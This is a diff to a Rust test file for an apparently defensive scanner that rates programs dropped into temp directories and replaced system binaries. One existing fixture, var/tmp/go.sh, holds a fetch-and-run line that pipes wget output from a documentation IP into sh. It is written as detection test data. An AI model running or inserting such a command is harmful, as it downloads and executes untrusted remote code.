@@ -64,6 +64,14 @@ fn elf(entry: u8) -> Vec<u8> {
     header
 }
 
+/// A library of an older linker: it has an entry point, and a dynamic section that does not say that it is a program.
+fn old_library() -> Vec<u8> {
+    let mut file = elf(9);
+    (file[32], file[54], file[56]) = (64, 56, 1);
+    (file[64], file[73], file[97]) = (2, 2, 1);
+    file
+}
+
 /// A program with the names in it that shells have.
 fn shell() -> Vec<u8> {
     [elf(9), b"OPTIND\0MAILPATH\0PS4\0".to_vec()].concat()
@@ -444,6 +452,7 @@ fn programs_that_were_brought() {
             Member::file("tmp/run", elf(9)).mode(0o755),
             Member::file("tmp/.a/lib.so", elf(0)),
             Member::file("tmp/jna-1/libjna.so", elf(0)),
+            Member::file("tmp/_MEI7/_ctypes.so", old_library()).mode(0o755),
             Member::file("var/tmp/go.sh", "#!/bin/sh\nwget -O- http://192.0.2.7 | sh\n"),
             Member::file("tmp/build.sh", "#!/bin/sh\nmake\n").mode(0o755),
             Member::file("usr/sbin/sshd", elf(9)).mode(0o755),
@@ -458,13 +467,14 @@ fn programs_that_were_brought() {
     severity(&found, brought, "/tmp/run", Severity::High);
     severity(&found, brought, "/tmp/.a/lib.so", Severity::High);
     severity(&found, brought, "/tmp/jna-1/libjna.so", Severity::Low);
+    severity(&found, brought, "/tmp/_MEI7/_ctypes.so", Severity::Low);
     severity(&found, brought, "/var/tmp/go.sh", Severity::High);
     severity(&found, brought, "/tmp/build.sh", Severity::Low);
     severity(&found, system, "/usr/sbin/sshd", Severity::High);
     assert!(the(&found, system, "/usr/sbin/sshd").title.contains("replaced"));
     severity(&found, system, "/usr/local/bin/tool", Severity::Medium);
     severity(&found, system, "/usr/lib/x86_64-linux-gnu/libc.so.6", Severity::High);
-    assert_eq!(of(&found, brought).len() + of(&found, system).len(), 8);
+    assert_eq!(of(&found, brought).len() + of(&found, system).len(), 9);
 }
 
 #[test]
